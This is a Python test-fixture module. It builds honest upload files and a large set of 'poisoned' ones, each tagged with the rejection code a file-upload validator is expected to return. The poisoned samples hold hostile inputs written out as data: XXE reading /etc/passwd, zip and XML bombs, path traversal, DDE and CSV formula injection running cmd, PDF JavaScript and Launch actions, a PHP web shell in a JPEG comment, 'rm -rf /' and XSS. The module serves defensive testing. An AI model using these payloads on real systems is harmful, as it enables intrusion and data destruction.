"""Files made on the spot: honest ones of every kind, and poisoned ones with the refusal each must get."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheets/></workbook>"
)
SHEET = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData><row><c><v>1</v></c></row></sheetData></worksheet>"
)
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
)
Parts = dict[str, str | bytes]


@dataclass(frozen=True)
class Sample:
    """A file: what it is called, its bytes, what the browser says, and the refusal's code (empty for an honest one)."""

    title: str
    name: str
    data: bytes
    refusal: str = ""
    declared: str = ""


def zipped(parts: Parts, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return target.getvalue()


def xlsx(extra: Parts | None = None, **changes: str | bytes) -> bytes:
    parts: Parts = {
        "[Content_Types].xml": changes.get("types", CONTENT_TYPES),
        "xl/workbook.xml": changes.get("workbook", WORKBOOK),
        "xl/worksheets/sheet1.xml": changes.get("sheet", SHEET),
    }
    return zipped(parts | (extra or {}))


def docx(extra: Parts | None = None, document: str | bytes = DOCUMENT) -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document} | (extra or {}))


def pdf(catalog: bytes = b"", extra: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R" + catalog + b">>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n" + extra + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )


def stream(dictionary: bytes, body: bytes) -> bytes:
    return b"5 0 obj\n<<" + dictionary + b"/Length %d>>\nstream\n" % len(body) + body + b"\nendstream\nendobj\n"


def png(width: int = 3, height: int = 2, *, extra: bytes = b"", end: bytes = b"", pixels: bool = True) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"".join(b"\0" + b"\xff\0\0" * 3 for _ in range(2)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + (chunk(b"tEXt", extra) if extra else b"")
        + (chunk(b"IDAT", rows) if pixels else b"")
        + chunk(b"IEND", b"")
        + end
    )


def jpeg(width: int = 8, height: int = 8, *, comment: bytes = b"", end: bytes = b"", whole: bool = True) -> bytes:
    def segment(marker: int, body: bytes) -> bytes:
        return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body

    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0")
        + (segment(0xFE, comment) if comment else b"")
        + segment(0xDB, b"\0" + b"\1" * 64)
        + segment(0xC0, frame)
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x12\x34\x56"
        + (b"\xff\xd9" if whole else b"")
        + end
    )


def patched(data: bytes, change: Callable[[bytearray], None]) -> bytes:
    altered = bytearray(data)
    change(altered)
    return bytes(altered)


def with_flag(data: bytes, bit: int) -> bytes:
    """Set a general-purpose flag in every local and central header."""

    def change(altered: bytearray) -> None:
        for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = altered.find(mark)
            while at >= 0:
                altered[at + offset] |= bit
                at = altered.find(mark, at + 4)

    return patched(data, change)


def renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


def with_link() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        info = zipfile.ZipInfo("a.txt")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return target.getvalue()


def overlapping() -> bytes:
    """Two directory entries over one local entry: the kernel of a quine bomb."""
    data = zipped({"a.txt": "你好", "b.txt": "你好"}, method=zipfile.ZIP_STORED)
    central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    return patched(data, lambda altered: altered.__setitem__(slice(central + 42, central + 46), struct.pack("<I", 0)))


def lying_size() -> bytes:
    """The directory says 10 bytes, the data unpack to a megabyte."""
    data = xlsx({"xl/media/big.bin": b"\0" * 1_000_000})

    def change(altered: bytearray) -> None:
        for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            at = altered.find(mark)
            while at >= 0:
                if altered[at + offset : at + offset + 4] == struct.pack("<I", 1_000_000):
                    altered[at + offset : at + offset + 4] = struct.pack("<I", 10)
                at = altered.find(mark, at + 4)

    return patched(data, change)


def broken_crc() -> bytes:
    data = zipped({"a.txt": "你好" * 50}, method=zipfile.ZIP_STORED)
    return renamed(data, "你好".encode() * 50, ("你好" * 49 + "您好").encode())


def honest() -> Iterator[Sample]:
    """Files people really bring."""
    yield Sample("pdf", "证明.pdf", pdf(), declared="application/pdf")
    yield Sample(
        "pdf with a compressed object stream",
        "a.pdf",
        pdf(extra=stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"7 0 <</Type/Page>>"))),
    )
    yield Sample(
        "pdf with a picture", "a.pdf", pdf(extra=stream(b"/Subtype/Image/Filter/DCTDecode", jpeg() + b"/JS /AA"))
    )
    yield Sample("jpeg", "照片.JPG", jpeg(), declared="image/jpeg")
    yield Sample("jpeg with a film after it", "IMG_1.jpg", jpeg(end=b"\0\0\0\x18ftypmp42" + b"\0" * 1000))
    yield Sample("png", "截图.png", png(), declared="image/png")
    yield Sample(
        "xlsx", "花名册.xlsx", xlsx(), declared="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    yield Sample("xlsx in utf-16", "a.xlsx", xlsx(sheet=SHEET.replace("UTF-8", "UTF-16").encode("utf-16")))
    yield Sample("docx", "申请.docx", docx())
    yield Sample("csv in utf-8 with bom", "a.csv", "\ufeff姓名,金额\n张三,-5.2\n李四,+86 100\n".encode())
    yield Sample(
        "csv in gb18030", "a.csv", "姓名,金额\n张三,100\n".encode("gb18030"), declared="application/vnd.ms-excel"
    )
    yield Sample("text", "说明.txt", "第一行\r\n第二行\r\n".encode())
    yield Sample("bundle", "材料.zip", zipped({"身份证/正面.jpg": jpeg(), "表.xlsx": xlsx(), "证明.pdf": pdf()}))


def poisoned() -> Iterator[Sample]:
    """Files that must not come in."""
    yield from _wrong_kinds()
    yield from _archives()
    yield from _office()
    yield from _pdfs()
    yield from _images()
    yield from _texts()


def _wrong_kinds() -> Iterator[Sample]:
    yield Sample("empty", "a.pdf", b"", "empty")
    yield Sample("program", "setup.exe", b"MZ\x90\0", "kind")
    yield Sample("program called pdf", "a.pdf", b"MZ\x90\0" * 100, "mismatch")
    yield Sample("script", "a.sh", b"#!/bin/sh\nrm -rf /\n", "kind")
    yield Sample("page", "a.html", b"<script>alert(1)</script>", "kind")
    yield Sample("svg", "a.svg", b"<svg onload=alert(1)>", "kind")
    yield Sample("page called jpg", "a.jpg", b"<html><script>alert(1)</script>", "mismatch")
    yield Sample("png called jpg", "a.jpg", png(), "mismatch")
    yield Sample("zip called pdf", "a.pdf", zipped({"a.txt": "x"}), "mismatch")
    yield Sample("elf called csv", "a.csv", b"\x7fELF" + b"\0" * 100, "mismatch")
    yield Sample("zip called txt", "a.txt", zipped({"a.txt": "x"}), "mismatch")
    yield Sample("old excel", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "kind")
    yield Sample("old excel called xlsx", "a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "mismatch")
    yield Sample("no suffix", "README", b"x", "kind")
    yield Sample("double suffix", "a.pdf.exe", pdf(), "kind")
    yield Sample("browser disagrees", "a.pdf", pdf(), "mismatch", declared="text/html")
    yield Sample("right-to-left override", "a\u202efdp.exe", pdf(), "kind")


def _archives() -> Iterator[Sample]:
    yield Sample("bomb", "a.zip", zipped({"a.txt": b"0" * 5_000_000}), "bomb")
    yield Sample("bomb of many parts", "a.zip", zipped({f"{n}.txt": b"0" * 60_000 for n in range(150)}), "bomb")
    yield Sample("too many parts", "a.zip", zipped({f"{n}.txt": "x" for n in range(201)}), "bomb")
    yield Sample(
        "too much in all",
        "a.zip",
        zipped({f"{n}.txt": b"x" * (11 << 20) for n in range(5)}, method=zipfile.ZIP_STORED)[: 19 << 20],
        "damaged",
    )
    yield Sample("nested zip", "a.zip", zipped({"b.zip": zipped({"c.txt": "x"})}), "member")
    yield Sample("program inside", "a.zip", zipped({"b.exe": b"MZ"}), "member")
    yield Sample(
        "poisoned pdf inside", "a.zip", zipped({"b.pdf": pdf(b"/OpenAction<</S/JavaScript/JS(x)>>")}), "script"
    )
    yield Sample("climbs out", "a.zip", zipped({"../../etc/cron.d/x.txt": "x"}), "path")
    yield Sample("absolute", "a.zip", zipped({"/etc/x.txt": "x"}), "path")
    yield Sample(
        "backslashes", "a.zip", renamed(zipped({"..#..#x.txt": "x"}), b"..#..#x.txt", b"..\\..\\x.txt"), "path"
    )
    yield Sample("drive", "a.zip", renamed(zipped({"C#x.txt": "x"}), b"C#x.txt", b"C:x.txt"), "path")
    yield Sample("nul in a name", "a.zip", renamed(zipped({"a#b.txt": "x"}), b"a#b.txt", b"a\0b.txt"), "path")
    yield Sample("link", "a.zip", with_link(), "link")
    yield Sample("encrypted", "a.zip", with_flag(zipped({"a.txt": "x"}), 1), "encrypted")
    yield Sample("rare method", "a.zip", zipped({"a.txt": "x" * 100}, method=zipfile.ZIP_LZMA), "method")
    yield Sample("same name twice", "a.zip", renamed(zipped({"a.txt": "x", "b.txt": "y"}), b"b.txt", b"a.txt"), "twice")
    yield Sample("overlapping", "a.zip", overlapping(), "overlap")
    yield Sample("wrong checksum", "a.zip", broken_crc(), "damaged")
    yield Sample("cut off", "a.zip", zipped({"a.txt": "x" * 1000})[:-30], "damaged")
    yield Sample("only a header", "a.zip", b"PK\x03\x04" + b"\0" * 50, "damaged")
    yield Sample("no files", "a.zip", zipped({}), "mismatch")


def _office() -> Iterator[Sample]:
    bomb = SHEET.replace("<v>1</v>", "<v>" + "1" * 30_000_000 + "</v>")
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    insert = lambda text: SHEET.replace("?><", f"?>{text}<", 1)  # noqa: E731
    yield Sample("xml bomb", "a.xlsx", xlsx(sheet=bomb), "bomb")
    yield Sample("lying size", "a.xlsx", lying_size(), "damaged")
    yield Sample("external entity", "a.xlsx", xlsx(sheet=insert(entity)), "dtd")
    yield Sample("billion laughs", "a.xlsx", xlsx(sheet=insert(laughs)), "dtd")
    yield Sample(
        "entity in utf-16", "a.xlsx", xlsx(sheet=insert(entity).replace("UTF-8", "UTF-16").encode("utf-16")), "dtd"
    )
    yield Sample("entity in relations", "a.xlsx", xlsx({"xl/_rels/workbook.xml.rels": insert(entity)}), "dtd")
    yield Sample(
        "entity in content types", "a.xlsx", xlsx(types=CONTENT_TYPES.replace("?><", f"?>{entity}<", 1)), "dtd"
    )
    yield Sample("macro", "a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}), "macro")
    yield Sample("macro under another case", "a.xlsx", xlsx({"xl/VBAPROJECT.bin": b"x"}), "macro")
    yield Sample("excel 4 macro", "a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": SHEET}), "macro")
    yield Sample(
        "macro by type",
        "a.xlsx",
        xlsx(types=CONTENT_TYPES.replace("application/xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "macro",
    )
    yield Sample("active x", "a.docx", docx({"word/activeX/activeX1.bin": b"x"}), "macro")
    yield Sample("embedded object", "a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded")
    yield Sample("program as picture", "a.docx", docx({"word/media/image1.png": b"MZ\x90\0" * 10}), "embedded")
    yield Sample("zip as picture", "a.xlsx", xlsx({"xl/media/image1.png": zipped({"a": "x"})}), "embedded")
    yield Sample(
        "dde in a workbook",
        "a.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": DDE_LINK}),
        "dde",
    )
    yield Sample(
        "dde in a document",
        "a.docx",
        docx(document=DOCUMENT.replace("<w:body/>", "<w:body><w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:body>")),
        "dde",
    )
    yield Sample("docx called xlsx", "a.xlsx", docx(), "content")
    yield Sample("plain zip called xlsx", "a.xlsx", zipped({"a.txt": "x"}), "content")
    yield Sample("broken xml", "a.xlsx", xlsx(workbook="<workbook><sheets>"), "damaged")
    yield Sample("encrypted", "a.xlsx", with_flag(xlsx(), 1), "encrypted")


def _pdfs() -> Iterator[Sample]:
    hidden = zlib.compress(b"7 0 <</S/JavaScript/JS(app.alert(1))>>")
    yield Sample("script", "a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "script")
    yield Sample("script with an escaped name", "a.pdf", pdf(b"/OpenAction<</S/J#61vaScript>>"), "script")
    yield Sample(
        "script in an object stream",
        "a.pdf",
        pdf(extra=stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", hidden)),
        "script",
    )
    yield Sample(
        "object stream with an escaped type",
        "a.pdf",
        pdf(extra=stream(b"/Type/Obj#53tm/N 1/First 4/Filter/Fl#61teDecode", hidden)),
        "script",
    )
    yield Sample(
        "object stream under a rare filter",
        "a.pdf",
        pdf(extra=stream(b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"x")),
        "hidden",
    )
    yield Sample(
        "object stream bomb",
        "a.pdf",
        pdf(extra=stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b" " * 30_000_000))),
        "bomb",
    )
    yield Sample(
        "broken object stream", "a.pdf", pdf(extra=stream(b"/Type/ObjStm/Filter/FlateDecode", b"xxxx")), "damaged"
    )
    yield Sample("launch", "a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "launch")
    yield Sample("attachment", "a.pdf", pdf(b"/Names<</EmbeddedFiles 9 0 R>>"), "embedded")
    yield Sample("dynamic form", "a.pdf", pdf(b"/AcroForm<</XFA[]>>"), "xfa")
    yield Sample("sends data", "a.pdf", pdf(b"/AA<</O<</S/SubmitForm/F(http://x)>>>>"), "submit")
    yield Sample("opens a share", "a.pdf", pdf(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x)>>"), "remote")
    yield Sample("media", "a.pdf", pdf(b"/RichMedia 1 0 R"), "media")
    yield Sample("password", "a.pdf", pdf().replace(b"trailer<<", b"trailer<</Encrypt 8 0 R"), "encrypted")
    yield Sample(
        "script hidden behind a false stream",
        "a.pdf",
        pdf(extra=b"9 0 obj (stream\n) <</S/JavaScript>> endobj\n"),
        "script",
    )
    yield Sample("cut off", "a.pdf", pdf()[:-40], "damaged")


def _images() -> Iterator[Sample]:
    yield Sample("jpeg of 65000 by 65000", "a.jpg", jpeg(65_000, 65_000), "pixels")
    yield Sample("png of 100000 by 100000", "a.png", png(100_000, 100_000), "pixels")
    yield Sample("jpeg cut off", "a.jpg", jpeg(whole=False), "damaged")
    yield Sample("jpeg without a frame", "a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 30, "damaged")
    yield Sample("jpeg of no size", "a.jpg", jpeg(0, 8), "damaged")
    yield Sample("jpeg with a zip behind", "a.jpg", jpeg(end=zipped({"a.exe": "x"})), "polyglot")
    yield Sample("jpeg with a page in a comment", "a.jpg", jpeg(comment=b"<SCRIPT>alert(1)</SCRIPT>"), "polyglot")
    yield Sample("jpeg with php", "a.jpg", jpeg(comment=b"<?php system($_GET[0]);"), "polyglot")
    yield Sample("png with a zip behind", "a.png", png(end=zipped({"a.exe": "x"})), "trailing")
    yield Sample(
        "png with a page in a text chunk", "a.png", png(extra=b"Comment\0<script>alert(1)</script>"), "polyglot"
    )
    yield Sample("png cut off", "a.png", png()[:-6], "damaged")
    yield Sample(
        "png with a wrong checksum", "a.png", patched(png(), lambda data: data.__setitem__(30, data[30] ^ 1)), "damaged"
    )
    yield Sample("png without pixels", "a.png", png(pixels=False), "damaged")


def _texts() -> Iterator[Sample]:
    yield Sample("formula", "a.csv", "姓名,金额\n=cmd|'/c calc'!A1,1\n".encode(), "formula")
    yield Sample("formula after a quote", "a.csv", b'a,"=1+1"\n', "formula")
    yield Sample("formula after spaces", "a.csv", b"a,  =1+1\n", "formula")
    yield Sample("formula by plus", "a.csv", b"a,+1+1\n", "formula")
    yield Sample("formula by minus", "a.csv", b"a,-2+3+cmd|' /C calc'!A0\n", "formula")
    yield Sample("formula by at", "a.csv", b"a,@SUM(1)\n", "formula")
    yield Sample("full-width formula", "a.csv", "a,＝1+1\n".encode(), "formula")
    yield Sample("zero bytes", "a.csv", b"a,b\n\0\0\n", "control")
    yield Sample("escape codes", "a.txt", b"\x1b[2Jhello\n", "control")
    yield Sample("hidden direction", "a.txt", "付款\u202e到\n".encode(), "control")
    yield Sample("no encoding", "a.txt", b"\xff\xff\xff\xff", "encoding")
    yield Sample("endless line", "a.txt", b"x" * 200_000, "line")
    yield Sample("endless cell", "a.csv", b'"' + b"x" * 200_000 + b'"\n', "csv")
    yield Sample("too many rows", "a.csv", b"1,2\n" * 200_001, "rows")
    yield Sample("only a mark", "a.txt", b"\xef\xbb\xbf", "empty")
